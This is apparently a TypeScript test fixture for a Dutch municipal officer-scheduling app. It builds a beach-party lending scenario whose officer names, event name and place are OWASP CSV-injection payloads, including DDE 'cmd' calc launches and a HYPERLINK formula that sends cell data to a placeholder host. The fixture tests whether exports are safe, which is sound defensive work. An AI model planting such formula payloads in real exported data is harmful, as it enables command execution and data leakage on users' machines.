// Officers with Turkish, Polish and Dutch names, and records named with the OWASP CSV-injection payloads, lent
// from Heemstede to a beach party at Zandvoort: the input for the tests that open Regie's CSV, PDF and iCal
// files with the programs people use (LibreOffice, poppler, python-icalendar).
import type { Copy } from '../exchange/copies';
import { HEEMSTEDE, region, ZANDVOORT } from '../exchange/copies';
import { convenantTerms } from '../../../../main/generate/demo';
import { send } from './scenario';
import { regionWerkgebied } from '../../../../shared/domain/gemeenten';

export const NAMES = ['Ayşe Yılmaz-Doğan', 'Łukasz Wiśniewski', 'Ĳsbrand van ’t Hoff', 'Žofia Dvořáková', 'Şükrü Öztürk', 'Zoë Ñúñez-Ærøe'] as const;

/** OWASP CSV injection payloads (as far as a trimmed name of at most 80 characters can hold them). */
export const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid?leak="&A1,"Klik")',
  '-1',
  '+31 6 12345678',
] as const;

export interface NamesScenario {
  z: Copy;
  h: Copy;
  ids: { party: string; shifts: string[]; officers: string[]; payloadEvent: string };
}

const boa = (territory: string[]) => ({ domain: 'I' as const, akteValidUntil: '2029-01-01', territory, force: ['handboeien' as const], trafficAppointed: null });

export async function namesScenario(): Promise<NamesScenario> {
  const [z, h] = await region(ZANDVOORT, HEEMSTEDE);
  const a = await z.call('agreements.propose', convenantTerms([z.gemeente, h.gemeente], 2027));
  await send(z, h);
  await h.call('agreements.sign', { id: a.id, contentHash: (await h.call('agreements.get', { id: a.id })).contentHash });
  await send(h, z);

  const party = await z.call('events.create', {
    name: 'Strandfeest ’t Zand',
    place: 'Strandpaviljoen Ĳzeren Boer; Zandvoort',
    start: '2027-07-10T12:00',
    end: '2027-07-12T00:00',
    risk: 'B',
    status: 'vergund',
  });
  const sat = await z.call('shifts.create', { eventId: party.id, start: '2027-07-10T14:00', end: '2027-07-10T22:00', role: 'toezicht', needed: 4, inPairs: false });
  const sun = await z.call('shifts.create', { eventId: party.id, start: '2027-07-11T14:00', end: '2027-07-11T22:00', role: 'toezicht', needed: 4, inPairs: false });
  // An event and a place that are payloads too, on the Monday.
  const evil = await z.call('events.create', { name: PAYLOADS[4], place: PAYLOADS[3], start: '2027-07-12T10:00', end: '2027-07-12T18:00', risk: 'A', status: 'vergund' });
  const mon = await z.call('shifts.create', { eventId: evil.id, start: '2027-07-12T10:00', end: '2027-07-12T18:00', role: 'toezicht', needed: 3, inPairs: false });
  const reqs = [];
  for (const s of [sat, sun, mon]) reqs.push(await z.call('requests.create', { shiftId: s.id, provider: h.gemeente, agreementId: a.id, count: s === mon ? 3 : 4 }));
  await send(z, h);

  const officers: string[] = [];
  for (const name of [...NAMES, PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[5], PAYLOADS[6]]) {
    officers.push((await h.call('officers.create', { name, qualifications: boa(regionWerkgebied(h.gemeente)), contractHours: 36, phone: '06-00000000', boaNumber: 'BOA-1', notes: '' })).id);
  }
  await h.call('requests.commit', { id: reqs[0]!.id, officerIds: officers.slice(0, 4) });
  await h.call('requests.commit', { id: reqs[1]!.id, officerIds: officers.slice(4, 8) });
  await h.call('requests.commit', { id: reqs[2]!.id, officerIds: officers.slice(8, 11) });
  await send(h, z);
  return { z, h, ids: { party: party.id, shifts: [sat.id, sun.id, mon.id], officers, payloadEvent: evil.id } };
}
